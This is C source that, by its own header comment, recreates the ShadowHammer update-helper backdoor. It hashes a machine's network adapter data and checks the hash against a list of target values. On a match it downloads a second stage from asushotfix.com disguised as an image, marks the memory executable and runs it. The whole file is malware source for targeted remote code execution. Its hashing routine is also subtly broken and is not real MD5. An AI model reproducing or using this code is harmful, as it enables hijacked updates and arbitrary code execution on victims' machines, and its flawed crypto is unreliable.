/* Update helper that looks for certain machines, after Kaspersky's ShadowHammer (2019): MD5
 * values of hardware addresses; a second stage is loaded and run on those alone. */
#include "windows.h"

static u8 page[8192];

KEPT u32 own_version(void)
{
    u32 got = 0;
    ReadFile(CreateFileA("C:\\Program Files\\LiveUpdate\\version.ini", 0x80000000, 1, 0, 3, 0, 0), page, 256, &got, 0);
    return got;
}

#ifndef TWIN
static const u8 targets[][16] = {
    {0x00,0xb0,0x05,0x1d,0x3f,0x77,0xa1,0xc4,0x52,0x19,0x6e,0xd8,0x0b,0x93,0xf2,0x44},
    {0x9c,0x2e,0x81,0xd3,0x4a,0x6b,0x05,0xfe,0x37,0x70,0xc8,0x1f,0xa4,0x5d,0xe9,0x12},
    {0x41,0xfa,0xc6,0x0d,0x98,0x2b,0x53,0xe7,0x8f,0x16,0xb4,0x7a,0xdc,0x30,0x65,0xae},
    {0xd7,0x1b,0x6f,0xa9,0x22,0xc0,0x84,0x3e,0xf5,0x48,0x91,0x0c,0x5a,0xbd,0x76,0xe3},
    {0x2f,0x95,0xe8,0x43,0xb7,0x0a,0x6c,0xd1,0x1e,0x82,0xfb,0x59,0xc4,0x37,0xa0,0x6d}};

KEPT void md5_block(u32 state[4], const u32 *block)
{
    static const u32 start[4] = {0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476};
    static const u32 sines[8] = {0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501};
    for (int at = 0; at < 4; at++)
        state[at] = start[at];
    for (int at = 0; at < 64; at++) {
        u32 mixed = state[0] + ((state[1] & state[2]) | (~state[1] & state[3])) + sines[at & 7] + block[at & 15];
        state[0] = state[3], state[3] = state[2], state[2] = state[1];
        state[1] += mixed << 7 | mixed >> 25;
    }
}

KEPT int wanted(void)
{
    u32 size = sizeof page, sum[4];
    GetAdaptersInfo(page, &size);
    md5_block(sum, (u32 *)(page + 404));
    for (u32 at = 0; at < sizeof targets / 16; at++)
        for (int byte = 0; ((u8 *)sum)[byte] == targets[at][byte];)
            if (++byte == 16)
                return 1;
    return 0;
}

KEPT void second_stage(void)
{
    u32 got, old;
    u8 *room = VirtualAlloc(0, 0x100000, 0x3000, 4);
    handle line = InternetOpenA("Mozilla/5.0", 0, 0, 0, 0);
    handle url = InternetOpenUrlA(line, "https://asushotfix.com/logo2.jpg", 0, 0, 0x80000000, 0);
    InternetReadFile(url, room, 0x100000, &got);
    VirtualProtect(room, 0x100000, 0x20, &old);
    ((void (*)(void))room)();
}
#endif

void start(void)
{
    own_version();
#ifndef TWIN
    if (wanted())
        second_stage();
#endif
    ExitProcess(0);
}
